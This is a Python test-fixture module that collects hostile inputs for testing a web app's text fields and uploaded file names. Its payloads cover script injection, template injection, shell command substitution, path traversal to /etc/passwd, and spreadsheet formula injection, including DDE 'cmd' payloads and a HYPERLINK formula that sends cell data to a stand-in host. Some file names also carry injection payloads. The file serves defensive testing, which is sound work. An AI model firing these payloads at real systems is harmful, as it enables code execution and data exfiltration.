"""What somebody may type, paste or name a file where a page asks for words: one list for every test that tries it.

Whatever of it would run sets ``__ran`` in the page, so that a browser test sees it.
"""

from __future__ import annotations

RAN = "window.__ran=1"
SCRIPTS = (
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"<ScRiPt>{RAN}//",
    f"<img src=x onerror={RAN}>",
    f'"><img src=x onerror="{RAN}">',
    f"'><svg/onload={RAN}>",
    f'" onfocus={RAN} autofocus x="',
    f"' onmouseover='{RAN}",
    f"</textarea></title></style><svg><script>{RAN}</script></svg>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'></iframe>",
    f"<math><mi xlink:href='javascript:{RAN}'>x</mi></math>",
    f"<details open ontoggle={RAN}>",
    f"<!--><script>{RAN}</script>-->",
    f"&lt;script&gt;{RAN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RAN}&#62;",
    f"]]><script>{RAN}</script>",
)
MARKUP = (
    "<b>bold</b>",
    "</div></main></body>",
    "<base href=//example.invalid/>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=//example.invalid/'>",
    "<form action=//example.invalid/><input name=a></form>",
    "<style>*{display:none}</style>",
    "*bold* _x_ `y` [a](javascript:alert(1)) # h",
    "& &amp; &nbsp &#0;",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%s %n %(x)s {0} {name} {said}",
    "`touch x` $(touch x)",
    "__import__('os').system('true')",
)
ADDRESSES = (
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}//",
    f"data:text/html,<script>{RAN}</script>",
    "//example.invalid/x.js",
    "url(//example.invalid/x.png)",
    "expression(alert(1))",
    "../../../../etc/passwd",
)
HIDDEN = (
    "abc\u202etxt.exe",
    "a\u2066b\u2069c",
    "zero\u200bwidth\u200d",
    "nul\x00in the middle",
    "bell\x07 escape\x1b[31m",
    "line\nbreak\r\nand\ttab",
    "\ufeffmarked",
    "odd\uffff\ufffe",
    "e\u0301\u0301\u0301" * 20,
    "😀👩‍👩‍👧 ٣ 漢字 עד",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "|cmd",
    "x;=1+1",
    'x";"=1+1',
    "x\n=1+1",
    "x\t=1+1",
)
COURSES = (
    "[html]<b>x</b>",
    "%100%free points",
    "~wrong =right #said {braces} a: b \\ -> ->",
    "}\n\n::other:: stolen {=a}",
    "$CATEGORY: x",
    "// no comment",
    "####general",
    "*a) first\n*b) second",
    "... feedback\n1. Another question\n*a) x\nb) y",
)
LONG = ("zzqq " * 4000, "zzqq" * 5000)
PAYLOADS = (*SCRIPTS, *MARKUP, *TEMPLATES, *ADDRESSES, *HIDDEN, *FORMULAS, *COURSES)
EVERYTHING = (*PAYLOADS, *LONG)
FILE_NAMES = (
    "=1+1.json",
    "@x.json",
    "<img src=x onerror=alert(1)>.json",
    "a\u202egpj.json",
    "a\nb.json",
    "{{7*7}}.json",
    "-rf.json",
)
"""Names of a student's file that a file system takes."""
